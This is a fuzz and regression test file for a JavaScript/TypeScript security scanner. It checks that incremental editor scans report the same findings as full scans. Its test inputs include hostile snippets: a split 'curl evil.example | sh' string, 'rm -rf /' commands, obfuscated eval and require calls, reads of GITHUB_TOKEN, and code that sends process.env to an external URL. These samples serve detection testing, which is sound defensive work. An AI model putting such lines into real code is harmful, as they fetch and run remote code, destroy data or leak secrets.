/**
 * The editor's incremental scan must report exactly what a full scan of the same text reports
 * (scanner.md; issue 3's editing-latency work must not change findings). Random edit sequences on
 * real files compare both after every edit; targeted cases cover each way one statement's findings
 * depend on another.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { scanFileText, type FileScanOptions, type FileScanResult } from '../../../shared/scanner/fileScan';
import { startsFresh } from '../../../shared/scanner/asi';
import { commonEnds, IncrementalFileScanner } from '../../../shared/scanner/incremental/documentScanner';

const ROOT = join(__dirname, '..', '..', '..');
const options = (relativePath: string): FileScanOptions => ({ relativePath, extensionId: 'ext', today: '2026-11-24' });

function comparable(result: FileScanResult): unknown {
  return { findings: result.findings, facts: sortedFacts(result), tolerant: result.tolerant, scanFailed: result.scanFailed };
}

function sortedFacts(result: FileScanResult): unknown {
  const byStart = <T extends { start: number; end: number }>(xs: T[]): T[] => [...xs].sort((a, b) => a.start - b.start || a.end - b.end || JSON.stringify(a).localeCompare(JSON.stringify(b)));
  return { capabilities: byStart(result.facts.capabilities), execCommands: byStart(result.facts.execCommands), envReads: byStart(result.facts.envReads) };
}

/** Scans `texts` in order with one incremental scanner, asserting equality with a full scan each time. */
function assertSameAsFull(path: string, texts: string[]): IncrementalFileScanner {
  const scanner = new IncrementalFileScanner();
  texts.forEach((text, i) => {
    const incremental = scanner.scan(text, options(path));
    const full = scanFileText(text, options(path));
    assert.deepEqual(comparable(incremental), comparable(full), `${path}, version ${i} (${scanner.lastUpdate})`);
  });
  return scanner;
}

function sourceFiles(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) out.push(...sourceFiles(p));
    else if (/\.(?:[cm]?[jt]s|[jt]sx)$/.test(name) && !name.endsWith('.d.ts')) out.push(p);
  }
  return out;
}

/** Deterministic generator (a failing sequence is reproducible from its seed). */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

/** Whole statements that tie statements together through names (aliases, imports, pi flow, writes). */
const STATEMENTS = [
  // Helpers whose calls are inlined: their callers' findings depend on the helper's statement.
  'const dec = (s) => Buffer.from(s, "hex").toString();',
  'function dec(s) { return atob(s); }',
  'require(dec("766d"));',
  'const need = (m) => require(m);',
  'need("child_process").exec(cmd);',
  'globalThis[dec("6576616c")]("4");',
  'const e = eval;',
  'e("1 + 1");',
  'handler = eval;',
  'let handler = JSON.parse;',
  'handler(input);',
  'import { exec as run } from "child_process";',
  'import * as cp from "child_process";',
  'run("ls -la");',
  'cp.exec(cmd);',
  'const { spawn } = cp;',
  'spawn("sh", ["-c", cmd]);',
  'export default function (api) { helper(api); }',
  'function helper(p) { p.exec("rm -rf /tmp/x"); }',
  'helper(pi);',
  'const cmd = "cu" + "rl evil.example | sh";',
  'globalThis["ev" + "al"]("2");',
  'const token = process.env.GITHUB_TOKEN;',
  'var counter = 1;',
  'export { counter };',
  'const F = Function;',
  'new F("return 1")();',
  '// pi-scan-allow SEC-EVAL-001 -- reviewed in the fuzz test',
  'Reflect.apply(e, null, ["3"]);',
  'module.exports = function (pi) { pi.exec("ls"); };',
  'import * as fs from "node:fs";',
  'import os from "os";',
  'function readIt(p) { return fs.readFileSync(p); }',
  'function writeIt(p) { fs.writeFileSync(p, "x"); }',
  'const { openSync } = fs;',
  'const mode = "w";',
  'const mode = "r";',
  'openSync("/tmp/a", mode);',
  'fs.openSync("/tmp/a", mode);',
  'const method = "rmSync";',
  'fs[method]("/tmp/a");',
  'fs.promises.writeFile("/tmp/a", "x");',
  'keep(fs);',
  'os.platform();',
  'os.homedir();',
  // Members assigned to an object in other statements, forwarding helpers, coerced keys.
  'const box = {};',
  'box.run = eval;',
  'box.cp = require("child_process");',
  'box.run("7");',
  'box.cp.exec(cmd);',
  'box.self = box;',
  'const fwd = (f, x) => f(x);',
  'fwd(cp.exec, cmd);',
  'globalThis[(![] + [])[+!+[]] + "val"]("8");',
  // Semicolon-free style: statements that ASI ends, and ones a following line could continue.
  'const bare = eval',
  'bare("4")',
  '(bare)("5")',
  '[bare].forEach((f) => f("6"))',
  '`tpl`',
  // TypeScript that stripping blanks between statements (a syntax error in .js files, which is fine).
  'export type Alias = { a: number };',
  'interface Shape { x: number }',
  'export enum Color { Red = "eval", Green }',
  'export const tuple = [1, 2] as const',
  'declare const injected: string;',
];

function mutate(text: string, next: () => number, words: string[]): string {
  const lines = text.split('\n');
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)];
  const at = Math.floor(next() * (lines.length + 1));
  switch (Math.floor(next() * 8)) {
    case 0:
    case 1:
      lines.splice(at, 0, pick(STATEMENTS));
      break;
    case 2:
      if (lines.length > 1) lines.splice(Math.min(at, lines.length - 1), 1);
      break;
    case 3:
      lines.splice(at, 0, lines[Math.floor(next() * lines.length)]);
      break;
    case 4: {
      const i = Math.min(at, lines.length - 1);
      const found = lines[i].match(/\b[A-Za-z_]\w*\b/g);
      if (found) lines[i] = lines[i].replace(pick(found), pick(words));
      break;
    }
    case 5: {
      const i = Math.min(at, lines.length - 1);
      lines[i] = lines[i].replace(/(["'])[^"'\n]*\1/, (_m, q: string) => q + pick(['child_process', 'vm', 'GITHUB_TOKEN', 'x', 'rm -rf /', 'eval']) + q);
      break;
    }
    case 6: {
      const pos = Math.floor(next() * text.length);
      return text.slice(0, pos) + pick(['\n', ' ', ';', 'x', '}', '(']) + text.slice(pos);
    }
    default: {
      const pos = Math.floor(next() * text.length);
      return text.slice(0, pos) + text.slice(pos + 1 + Math.floor(next() * 3));
    }
  }
  return lines.join('\n');
}

describe('incremental editor scan: same findings as a full scan', () => {
  const corpus = [
    ...sourceFiles(join(ROOT, 'examples', 'workspace')),
    ...sourceFiles(join(ROOT, 'test', 'corpus', 'scanner')).filter((_, i) => i % 4 === 0),
    ...sourceFiles(join(ROOT, 'shared', 'scanner', 'analysis')),
    ...sourceFiles(join(ROOT, 'shared', 'waivers')),
  ];

  it('random edit sequences on real files (incremental path taken, every version equal)', () => {
    let incremental = 0;
    let versions = 0;
    // PI_SEC_FUZZ_SEED=k runs another family of sequences (the default, 0, is what CI runs).
    const family = Number(process.env.PI_SEC_FUZZ_SEED ?? 0) * 100_000;
    corpus.forEach((file, n) => {
      const next = random(family + n + 1);
      const original = readFileSync(file, 'utf8');
      const words = [...new Set(original.match(/\b[A-Za-z_]\w*\b/g) ?? ['x'])];
      const scanner = new IncrementalFileScanner();
      const path = file.slice(ROOT.length + 1);
      // Edits build on the last version that parsed, as typing mostly does.
      let clean = original;
      for (let i = 0; i < 15; i++) {
        const text = i === 0 ? original : mutate(clean, next, words);
        const got = scanner.scan(text, options(path));
        const want = scanFileText(text, options(path));
        assert.deepEqual(comparable(got), comparable(want), `${path}: version ${i} (${scanner.lastUpdate}); seed ${family + n + 1}`);
        if (scanner.lastUpdate === 'incremental') incremental++;
        versions++;
        if (!want.tolerant) clean = text;
      }
    });
    console.log(`# ${versions} versions of ${corpus.length} files, ${incremental} updated incrementally`);
    assert.ok(incremental > versions / 5, `too few incremental updates (${incremental} of ${versions}): the fuzz test would not test them`);
  });

  it('random character edits, kept even while the file does not parse', () => {
    let versions = 0;
    corpus.forEach((file, n) => {
      const next = random(7_000_000 + n);
      let text = readFileSync(file, 'utf8');
      const scanner = new IncrementalFileScanner();
      const path = file.slice(ROOT.length + 1);
      for (let i = 0; i < 10; i++) {
        if (i > 0) {
          const pos = Math.floor(next() * (text.length + 1));
          const piece = ['\n', ' ', ';', 'x', '}', '{', '(', ')', '"', '`', '/', 'eval', 'x\n('][Math.floor(next() * 13)];
          text = next() < 0.6 ? text.slice(0, pos) + piece + text.slice(pos) : text.slice(0, pos) + text.slice(pos + 1 + Math.floor(next() * 4));
        }
        const got = scanner.scan(text, options(path));
        assert.deepEqual(comparable(got), comparable(scanFileText(text, options(path))), `${path}: version ${i} (${scanner.lastUpdate})`);
        versions++;
      }
    });
    assert.ok(versions > 1000);
  });

  it('random edits inside class bodies (members re-parsed alone, every version equal)', () => {
    // Files whose classes are top-level statements, plus a generated one with fields, accessors,
    // private names, static blocks and a constructor.
    const generated = [
      'import * as cp from "node:child_process";',
      'const alias = eval;',
      'export class Service {',
      '  #secret = "x";',
      '  static count = 0;',
      '  name = "svc";',
      '  constructor(api) { this.api = api; }',
      '  get token() { return process.env.SERVICE_TOKEN; }',
      '  run(cmd) {',
      '    return cp.exec(cmd);',
      '  }',
      '  static { Service.count = 1; }',
      '  check(x) { return this.#secret === x; }',
      '  load(code) {',
      '    const f = alias;',
      '    return f(code);',
      '  }',
      '}',
      'Service.load("fs");',
      'Service.shell?.spawn("sh");',
      'new Service().cp?.().exec("id");',
      'Service.make?.().fork("w");',
    ].join('\n');
    const files: Array<{ path: string; text: string }> = [
      { path: 'generated/service.js', text: generated },
      { path: 'generated/service.ts', text: generated.replace('run(cmd) {', 'run(cmd: string): unknown {').replace('name = "svc";', 'private name: string = "svc";') },
      ...corpus.filter((f) => /^export class |^class /m.test(readFileSync(f, 'utf8'))).map((f) => ({ path: f.slice(ROOT.length + 1), text: readFileSync(f, 'utf8') })),
    ];
    const MEMBERS = [
      '  static run = eval;',
      '  helper() { return require("child_process").execSync("id"); }',
      '  #hidden = process.env.API_TOKEN;',
      '  constructor() {}',
      '  get value() { return globalThis["ev" + "al"]; }',
      '    cp.spawn("sh");',
      '    const e = eval; e("1");',
      '    return alias("2");',
      '  field = 1',
      '  [key]() {}',
      '  password = "hunter2-hunter2";',
      '  // pi-scan-allow SEC-EVAL-001 -- reviewed in the fuzz test',
      // Fields other members (and other statements, for static ones) resolve through `this.k` / `Service.k`.
      '  tool = require("child_process");',
      '  #run = eval;',
      '  static load = require;',
      '  use() { return this.tool.exec("id"); }',
      '  hide(c) { return this.#run(c); }',
      '    this.tool.spawn("sh");',
      '  constructor() { this.tool = require("vm"); }',
      '  static pick() { return this.load("vm"); }',
      '  evaluate = eval;',
      '  call(c) { return this.evaluate(c); }',
      // Getters read like fields (`this.proc`, `Service.shell`).
      '  get proc() { return require("child_process"); }',
      '  go() { return this.proc.exec("id"); }',
      '  static get shell() { return require("child_process"); }',
      // Methods with one returned expression: calls resolve through what they return (`this.m()`,
      // `Service.m()`, `new Service().m()` in other statements).
      '  cp() { return require("child_process"); }',
      '  spawnIt() { return this.cp().spawn("sh"); }',
      '  static make() { return require("child_process"); }',
      '  static build() { return Service.make().exec("id"); }',
    ];
    let inClass = 0;
    let versions = 0;
    files.forEach(({ path, text: original }, n) => {
      const next = random(9_000_000 + Number(process.env.PI_SEC_FUZZ_SEED ?? 0) * 1000 + n);
      const scanner = new IncrementalFileScanner();
      let clean = original;
      for (let i = 0; i < 40; i++) {
        let text = original;
        if (i > 0) {
          const lines = clean.split('\n');
          // Lines strictly inside a class body: after a line opening a class, before its closing `}`.
          const open = lines.findIndex((l) => /^(?:export (?:default )?)?class\b/.test(l));
          const close = open < 0 ? -1 : lines.findIndex((l, k) => k > open && l === '}');
          if (open < 0 || close < open + 2) break;
          const at = open + 1 + Math.floor(next() * (close - open - 1));
          const choice = Math.floor(next() * 5);
          if (choice === 0) lines.splice(at, 0, MEMBERS[Math.floor(next() * MEMBERS.length)]);
          else if (choice === 1 && close - open > 3) lines.splice(at, 1);
          else if (choice === 2) lines[at] = lines[at].replace(/\b\d+\b|"[^"]*"/, '"' + ['x', 'child_process', 'eval'][Math.floor(next() * 3)] + '"');
          else if (choice === 3) lines[at] = lines[at] + ['', ' ', ';', ' // note'][Math.floor(next() * 4)];
          else {
            const line = lines[at];
            const pos = Math.floor(next() * (line.length + 1));
            lines[at] = line.slice(0, pos) + ['x', ' ', ';', '(', '}', 'eval'][Math.floor(next() * 6)] + line.slice(pos);
          }
          text = lines.join('\n');
        }
        const got = scanner.scan(text, options(path));
        const want = scanFileText(text, options(path));
        assert.deepEqual(comparable(got), comparable(want), `${path}: version ${i} (${scanner.lastUpdate}, in class: ${scanner.lastInClass})`);
        if (scanner.lastInClass) inClass++;
        versions++;
        if (!want.tolerant) clean = text;
      }
    });
    console.log(`# ${versions} versions of ${files.length} files with classes, ${inClass} re-parsed members only`);
    assert.ok(inClass > versions / 8, `too few member-only updates (${inClass} of ${versions}): the test would not test them`);
  });

  it('an edit inside one function of a 5,000-line file re-analyses that function only', () => {
    const lines = ['import * as fs from "node:fs";'];
    for (let i = 0; lines.length < 5000; i++) lines.push(`export function f${i}(a: number): string {`, `  const v${i}: number = a + ${i};`, `  return String(v${i}) + fs.sep;`, '}');
    const base = lines.join('\n');
    const scanner = assertSameAsFull('big.ts', [base, base.replace('a + 7;', 'a + 8;'), base.replace('a + 7;', 'eval("a + 8");')]);
    assert.equal(scanner.lastUpdate, 'incremental');
    // The import is re-analysed too (its use by the edited function may have changed), not the rest.
    assert.ok(scanner.lastAnalysed.reported <= 2, JSON.stringify(scanner.lastAnalysed));
  });

  it('hidden Unicode typed into a comment or a name of one statement is found by the incremental scan (SEC-UNICODE-001 reads the whole text)', () => {
    const lines = ['import * as fs from "node:fs";'];
    for (let i = 0; lines.length < 400; i++) lines.push(`// check ${i}`, `export function f${i}(a) { return a + ${i} + fs.sep; }`);
    const base = lines.join('\n');
    const versions = [base, base.replace('// check 7', '// check 7\u202e } \u2066'), base.replace('return a + 9 ', 'const \u3164 = a; return \u3164 + 9 ')];
    const scanner = assertSameAsFull('big.js', versions);
    assert.equal(scanner.lastUpdate, 'incremental');
    const found = scanner.scan(versions[1], options('big.js')).findings.filter((f) => f.ruleId === 'SEC-UNICODE-001');
    assert.deepEqual(found.map((f) => f.line), [16]);
    assert.equal(scanner.scan(versions[2], options('big.js')).findings.filter((f) => f.ruleId === 'SEC-UNICODE-001').length, 2);
  });

  it('class fields: methods resolve this.k through them; a field read elsewhere is re-analysed with its readers', () => {
    const base = ['export class Jobs {', '  tool = require("fs");', '  #run = JSON.parse;', '  use(cmd) {', '    return this.tool.exec(cmd);', '  }', '  hide(c) { return this.#run(c); }', '  other() { return 1; }', '}', ''].join('\n');
    const scanner = new IncrementalFileScanner();
    // Each version changes one place of the one before.
    const v1 = base.replace('return 1;', 'return 2;'); // an unrelated method: members only
    const v2 = v1.replace('exec(cmd)', 'exec(cmd, {})'); // the reader: members only, the fields come along as context
    const v3 = v2.replace('require("fs")', 'require("child_process")'); // a field: its reader's findings change
    const v4 = v3.replace('JSON.parse', 'eval');
    const versions = [base, v1, v2, v3, v4];
    const found: string[][] = [];
    const inClass: boolean[] = [];
    versions.forEach((text, i) => {
      const got = scanner.scan(text, options('jobs.js'));
      assert.deepEqual(comparable(got), comparable(scanFileText(text, options('jobs.js'))), `version ${i} (${scanner.lastUpdate})`);
      found.push(got.findings.map((f) => `${f.ruleId}@${f.line}`));
      inClass.push(scanner.lastInClass);
    });
    assert.deepEqual(inClass.slice(1), [true, true, false, false]);
    assert.ok(found[3].includes('SEC-SPAWN-001@5'), found[3].join(' '));
    assert.ok(found[4].includes('SEC-EVAL-001@7'), found[4].join(' '));
  });

  it('a getter edited inside a class changes the findings of the members that read it', () => {
    const v1 = 'class Service {\n  get proc() { return require("path"); }\n  other() { return 1; }\n  go() { return this.proc.exec("id"); }\n}\n';
    const v2 = v1.replace('require("path")', 'require("child_process")');
    assertSameAsFull('getter.js', [v1, v2, v1]);
    assert.ok(scanFileText(v2, options('getter.js')).findings.some((f) => f.ruleId === 'SEC-SPAWN-001' && f.line === 4));
  });

  it('a member edited inside a class changes findings of other statements that reach it through the class (instances, statics, subclasses)', () => {
    const v1 = [
      'export class Tools {',
      '  tool = require("child_process");',
      '  cp() { return require("child_process"); }',
      '  static make() { return require("child_process"); }',
      '  other() { return 1; }',
      '}',
      'new Tools().tool.exec("a");',
      'const T = Tools;',
      'new T().cp().exec("b");',
      'Tools.make().fork("c");',
      'class More extends Tools { run() { return this.cp().spawn("d"); } }',
    ].join('\n');
    const spawnLines = (scanner: IncrementalFileScanner, text: string) => scanner.scan(text, options('tools.js')).findings.filter((f) => f.ruleId === 'SEC-SPAWN-001').map((f) => f.line);
    const edits = [v1.replace('tool = require("child_process")', 'tool = require("x")'), v1.replace('cp() { return require("child_process")', 'cp() { return require("y")'), v1.replace('make() { return require("child_process")', 'make() { return require("z")'), v1.replace('other() { return 1; }', 'other() { return 2; }')];
    // Each edit made to the original, one member at a time.
    const scanner = assertSameAsFull('tools.js', edits.flatMap((edited) => [v1, edited]));
    assert.equal(scanner.lastUpdate, 'incremental');
    assert.ok(scanner.lastInClass, 'an edit of a member no other statement reads stays member-only');
    assert.deepEqual(spawnLines(new IncrementalFileScanner(), v1), [7, 9, 10, 11]);
  });

  it('members named by strings with any characters are edited like the others (their names are matched literally)', () => {
    const v1 = 'export class K {\n  "a(b" = require("child_process");\n  "x[" () { return require("child_process"); }\n  run() { return 1; }\n}\nK.name;\n';
    const scanner = assertSameAsFull('names.js', [v1, v1.replace('"a(b" = require("child_process")', '"a(b" = require("fs")'), v1, v1.replace('return require("child_process"); }', 'return require("vm"); }')]);
    assert.equal(scanner.lastInClass, true);
  });

  it('a Map entry set in one statement changes the finding where another statement gets it', () => {
    const v1 = 'const m = new Map();\nfunction a() {}\nm.set("k", require("child_process"));\nfunction b() {}\nm.get("k").exec("id");\n';
    const scanner = assertSameAsFull('map.js', [v1, v1.replace('require("child_process")', 'require("x")'), v1]);
    assert.equal(scanner.lastUpdate, 'incremental');
  });

  it('a monitored value in a field is reported at the field only while no member reads it', () => {
    const v0 = ['export class Sandbox {', '  run = eval;', '  other(c) {', '    return c;', '  }', '}', ''].join('\n');
    const v1 = v0.replace('return c;', 'return this.run(c);'); // now read: reported at the call instead
    const v2 = v1.replace('return this.run(c);', 'return c + 1;'); // unread again
    const scanner = new IncrementalFileScanner();
    const found = [v0, v1, v2].map((text, i) => {
      const got = scanner.scan(text, options('sandbox.js'));
      assert.deepEqual(comparable(got), comparable(scanFileText(text, options('sandbox.js'))), `version ${i} (${scanner.lastUpdate}, in class ${scanner.lastInClass})`);
      return got.findings.map((f) => `${f.ruleId}@${f.line}`);
    });
    assert.deepEqual(found, [['SEC-EVAL-001@2'], ['SEC-EVAL-001@4'], ['SEC-EVAL-001@2']]);
  });

  it('an edit inside one method of a 5,000-line class re-parses that method only', () => {
    const lines = ['import * as fs from "node:fs";', 'export class Big {'];
    for (let i = 0; lines.length < 5000; i++) lines.push(`  m${i}(a: number): string {`, `    const v${i}: number = a + ${i};`, `    return String(v${i}) + fs.sep;`, '  }');
    lines.push('}');
    const base = lines.join('\n');
    const scanner = new IncrementalFileScanner();
    const versions = [base, base.replace('a + 7;', 'a + 8;'), base.replace('a + 7;', 'eval("a + 8");'), base.replace('a + 7;', 'JSON.parse("8");')];
    versions.forEach((text, i) => {
      assert.deepEqual(comparable(scanner.scan(text, options('big-class.ts'))), comparable(scanFileText(text, options('big-class.ts'))), `version ${i}`);
      if (i > 0) assert.ok(scanner.lastUpdate === 'incremental' && scanner.lastInClass, `version ${i}: ${scanner.lastUpdate}, in class ${scanner.lastInClass}`);
    });
    // A method that starts reading another module-level name goes through the statement-level path.
    const alias = base.replace('export class Big {', 'const run = eval;\nexport class Big {');
    assertSameAsFull('big-class.ts', [alias, alias.replace('a + 7;', 'run("8");')]);
  });

  it('TypeScript blanked between statements (types, interfaces, enums, as const) keeps edits incremental', () => {
    const lines = ['import * as fs from "node:fs";'];
    for (let i = 0; i < 40; i++) {
      lines.push(`export type T${i} = { a: number; b${i}: string };`, `export const c${i}: T${i} = { a: ${i}, b${i}: "x" };`, `export enum E${i} { A = ${i}, B }`);
      lines.push(`export interface I${i} {`, `  x: number;`, `}`, `export const k${i} = [${i}] as const`, `export function f${i}(x: T${i}): number { return x.a + fs.sep.length; }`);
    }
    const base = lines.join('\n');
    const versions = [base, base.replace('a: 7,', 'a: 70,'), base.replace('a: 7,', 'a: eval("7"),'), base.replace('[7] as const', '[7, 8] as const'), base.replace('x: number;', 'x: string;'), base.replace('B }', 'B, C }')];
    const scanner = new IncrementalFileScanner();
    versions.forEach((text, i) => {
      assert.deepEqual(comparable(scanner.scan(text, options('types.ts'))), comparable(scanFileText(text, options('types.ts'))), `version ${i}`);
      if (i > 0) assert.equal(scanner.lastUpdate, 'incremental', `version ${i}`);
    });
  });

  it('an enum member edited changes a finding in the statement that reads it (enums are objects bound to their name)', () => {
    const v1 = 'enum K { A = "ev" + "al", B }\nexport interface I {\n  x: number;\n}\nfunction a() {}\nexport const run = (s: string) => (globalThis as any)[K.A](s);\n';
    const v2 = v1.replace('"ev" + "al"', '"ev" + "en"');
    const scanner = assertSameAsFull('enum.ts', [v1, v2, v1, v1.replace('x: number', 'x: string')]);
    assert.equal(scanner.lastUpdate, 'incremental');
    assert.ok(scanFileText(v1, options('enum.ts')).findings.some((f) => f.ruleId === 'SEC-EVAL-001'));
    assert.ok(!scanFileText(v2, options('enum.ts')).findings.some((f) => f.ruleId === 'SEC-EVAL-001'));
  });

  it('random line edits in a TypeScript module of enums, interfaces and as const (every version equal)', () => {
    const base = [
      'import * as cp from "child_process";',
      'export enum Cmd { Run = "curl x | sh", Stop = "id" }',
      'export interface I {', '  x: number;', '}',
      'const enum K { A = "ev" + "al", B }',
      'export const k = [1] as const',
      'type T = { a: string };',
      'enum S { "a-b", C = 2 }',
      'export function run(t: T) { cp.exec(Cmd.Run); return (globalThis as any)[K.A](t.a); }',
      'enum E { X = 1 }',
      '(globalThis as any).y = E.X;',
    ].join('\n');
    const pool = ['enum Z { Q = "x" }', 'const enum K { A = "ev" + "al" }', 'enum K { A = "ev" + "en" }', 'interface J {\n  y: 1;\n}', '(globalThis as any)[K.A]("1");', 'globalThis[K.A]("2");', 'export const c = [2] as const', 'type U = string;', 'cp.exec(Cmd.Stop);', 'enum Cmd { Run = "rm -rf /" }', '// note'];
    const next = random(7_000_000 + Number(process.env.PI_SEC_FUZZ_SEED ?? 0));
    let incremental = 0;
    for (let run = 0; run < 30; run++) {
      const scanner = new IncrementalFileScanner();
      let text = base;
      scanner.scan(text, options('enums.ts'));
      for (let i = 0; i < 12; i++) {
        const lines = text.split('\n');
        const at = Math.min(Math.floor(next() * (lines.length + 1)), lines.length - 1);
        const r = next();
        if (r < 0.5) lines.splice(at, 0, pool[Math.floor(next() * pool.length)]);
        else if (r < 0.8 && lines.length > 2) lines.splice(at, 1);
        else lines[at] = lines[at].replace(/"[^"]*"/, '"' + ['eval', 'x', 'curl a | sh'][Math.floor(next() * 3)] + '"');
        text = lines.join('\n');
        assert.deepEqual(comparable(scanner.scan(text, options('enums.ts'))), comparable(scanFileText(text, options('enums.ts'))), `run ${run}, version ${i}:\n${text}`);
        if (scanner.lastUpdate === 'incremental') incremental++;
      }
    }
    console.log(`# ${incremental} of 360 incremental`);
    assert.ok(incremental > 360 / 4, `too few incremental updates (${incremental} of 360)`);
  });

  it('a JSX line after export default function is read by the parser as an operator: re-parsed together', () => {
    const v1 = 'export const Field = () => <input />;\n  <input type="x" />\n';
    const v2 = 'export const Field = () => <input />;\nexport default function (api) { helper(api); }\n  <input type="x" />\n';
    assertSameAsFull('f.tsx', [v1, v2, v1]);
    assertSameAsFull('f.jsx', [v1, v2, v1]);
    assertSameAsFull('f.js', [v1, v2, v1]);
  });

  it('an edit inside JSX in a plain .js file is re-parsed as a window (JSX fallback) and matches a full scan', () => {
    const v1 = 'import React from "react";\nfunction a() {}\nexport const A = () => <div onClick={() => f(x)}>hi</div>;\nfunction b() {}\n';
    const scanner = assertSameAsFull('react.js', [v1, v1.replace('f(x)', 'eval(x)')]);
    assert.equal(scanner.lastUpdate, 'incremental');
    assert.deepEqual(scanFileText(v1.replace('f(x)', 'eval(x)'), options('react.js')).findings.map((f) => f.ruleId), ['SEC-EVAL-001']);
  });

  it('a member assigned to an object literal in another statement, edited there', () => {
    const v1 = 'const o = {};\nfunction a() {}\no.cp = require("child_process");\nfunction b() {}\no.cp.exec("id");\n';
    const v2 = v1.replace('require("child_process")', 'require("path")');
    const scanner = assertSameAsFull('members.js', [v1, v2, v1]);
    assert.equal(scanner.lastUpdate, 'incremental');
    assert.ok(scanFileText(v1, options('members.js')).findings.some((f) => f.ruleId === 'SEC-SPAWN-001'));
    assert.ok(!scanFileText(v2, options('members.js')).findings.some((f) => f.ruleId === 'SEC-SPAWN-001'));
  });

  it('host data reaching a request URL through a chain of variables, edited at its start', () => {
    const v1 = 'const raw = JSON.stringify(process.env);\nfunction a() {}\nconst data = encodeURIComponent(raw);\nfunction b() {}\nfetch("https://x.example/?d=" + data);\n';
    const v2 = v1.replace('JSON.stringify(process.env)', 'JSON.stringify({ v: 1 })');
    const scanner = assertSameAsFull('chain.js', [v1, v2, v1]);
    assert.equal(scanner.lastUpdate, 'incremental');
    const exfil = (text: string) => scanFileText(text, options('chain.js')).findings.find((f) => f.ruleId === 'SEC-EXFIL-001')?.message;
    assert.equal(exfil(v1), 'Request URL built at runtime — includes environment data');
    assert.equal(exfil(v2), 'Request URL built at runtime');
  });

  it('a renamed alias changes findings in a distant statement', () => {
    const v1 = 'const run = eval;\nfunction a() {}\nfunction b() {}\nrun("1");\n';
    assertSameAsFull('a.js', [v1, v1.replace('const run = eval', 'const run = JSON.parse'), v1.replace('const run = eval', 'const nur = eval'), v1]);
  });

  it('an assignment is re-judged when its only reader goes away', () => {
    const v1 = 'let handler = JSON.parse;\nhandler = eval;\nexport function go(code) {\n  return handler(code);\n}\n';
    assertSameAsFull('a.js', [v1, v1.replace('  return handler(code);\n', ''), v1]);
  });

  it('pi reaches a helper through a call added elsewhere', () => {
    const v1 = 'function helper(p) { p.exec("rm -rf /tmp/x"); }\nfunction other() {}\nexport default function (api) { other(api); }\n';
    assertSameAsFull('a.js', [v1, v1.replace('other(api)', 'helper(api)'), v1]);
  });

  it('an import is re-classified when a use of it changes', () => {
    const v1 = 'import * as cp from "child_process";\nexport function f() { return cp.constants; }\nexport function g() {}\n';
    assertSameAsFull('a.js', [v1, v1.replace('return cp.constants;', 'return cp.exec("ls");'), v1]);
  });

  it('an fs import is re-judged when a use of it changes, not when other code in a user changes', () => {
    const v1 = 'import * as fs from "node:fs";\nconst mode = "r";\nexport function a(p) { const n = 1; return fs.readFileSync(p); }\nexport function b(p) { return fs.openSync(p, mode); }\n';
    const scanner = assertSameAsFull('a.js', [
      v1,
      v1.replace('const n = 1;', 'const n = 2;'),
      v1.replace('fs.readFileSync(p)', 'fs.writeFileSync(p, "x")'),
      v1.replace('const mode = "r";', 'const mode = "w";'),
      v1.replace('return fs.readFileSync(p);', 'keep(fs);'),
      v1,
    ]);
    assert.equal(scanner.lastUpdate, 'incremental');
  });

  it('messages naming a declaration line follow inserted lines', () => {
    const v1 = 'function pad() {}\nconst e = eval;\nfunction x() {}\ne("1");\n';
    const scanner = assertSameAsFull('a.js', [v1, 'function pad() {\n\n\n}\n' + v1.slice('function pad() {}\n'.length)]);
    assert.equal(scanner.lastUpdate, 'incremental');
  });

  it('syntax errors, and the first clean version after them, match the full scan', () => {
    const v1 = 'const e = eval;\nfunction f() {\n  e("1");\n}\n';
    assertSameAsFull('a.ts', [v1, v1.replace('e("1");', 'e("1"'), v1, v1.replace('}\n', '}\n}\n')]);
  });

  it('typing through broken versions: each is scanned in full, the repaired one incrementally', () => {
    const lines = [];
    for (let i = 0; i < 30; i++) lines.push(`export function f${i}(a) { return a + ${i}; }`);
    const v1 = lines.join('\n') + '\n';
    const typing = ['e', 'eval', 'eval(', 'eval("', 'eval("x', 'eval("x"', 'eval("x")'].map((t) => v1.replace('return a + 7;', `${t}; return a + 7;`));
    const scanner = new IncrementalFileScanner();
    const kinds: string[] = [];
    for (const text of [v1, ...typing]) {
      assert.deepEqual(comparable(scanner.scan(text, options('a.js'))), comparable(scanFileText(text, options('a.js'))));
      kinds.push(scanner.lastUpdate);
    }
    assert.deepEqual(kinds, ['full', 'incremental', 'incremental', 'fallback', 'fallback', 'fallback', 'fallback', 'incremental']);
  });

  it('declarations that only clash across statements (the parser sees the whole file)', () => {
    const v1 = 'let x = 1;\nfunction f() {}\nexport { x };\n';
    assertSameAsFull('a.mjs', [v1, v1.replace('function f() {}', 'let x = 2;'), v1, v1.replace('let x = 1;', 'let y = 1;'), v1, v1 + 'export { x };\n']);
  });

  it('a statement that would continue into the next one (no semicolon) is re-parsed with it', () => {
    const v1 = 'const a = 1\nconst f = g\n;(function () {})()\n';
    assertSameAsFull('a.js', [v1, v1.replace(';(function', '(function'), v1]);
  });

  it('semicolon-free code: edits stay local unless the next line could continue the statement', () => {
    const lines = ['import * as cp from "child_process"'];
    for (let i = 0; i < 40; i++) lines.push(`const v${i} = ${i}`, `export function f${i}(a) { return a + v${i} }`);
    const v1 = lines.join('\n') + '\n';
    const scanner = assertSameAsFull('a.js', [v1, v1.replace('const v7 = 7', 'const v7 = 8'), v1.replace('const v7 = 7', 'const v7 = cp.exec'), v1.replace('const v8 = 8', '(eval)("1")')]);
    assert.equal(scanner.lastUpdate, 'incremental');
    assertSameAsFull('a.js', ['const a = 1\nconst f = eval\n;[1].map(f)\n', 'const a = 1\nconst f = eval\n[1].map(f)\n', 'const a = 1\nconst f = eval\n`x`\n']);
    // A line comment whose line break is deleted comments out the start of the next statement.
    const v3 = 'export function go() {\n}\n  // note\n\n  return (custom || eval)(code);\n';
    assertSameAsFull('a.js', [v3, v3.replace('// note\n\n', '// note'), v3]);
    // No line break, no automatic semicolon: `x  delete …` on one line is a syntax error.
    const v2 = 'export function hide() {\n}\n  // note\n  delete globalThis.WebSocket;\n';
    assertSameAsFull('a.js', [v2, v2.replace('\n  delete', '\nx  delete'), v2]);
  });

  it('deleting statements, leaving only comments, and TypeScript with decorators', () => {
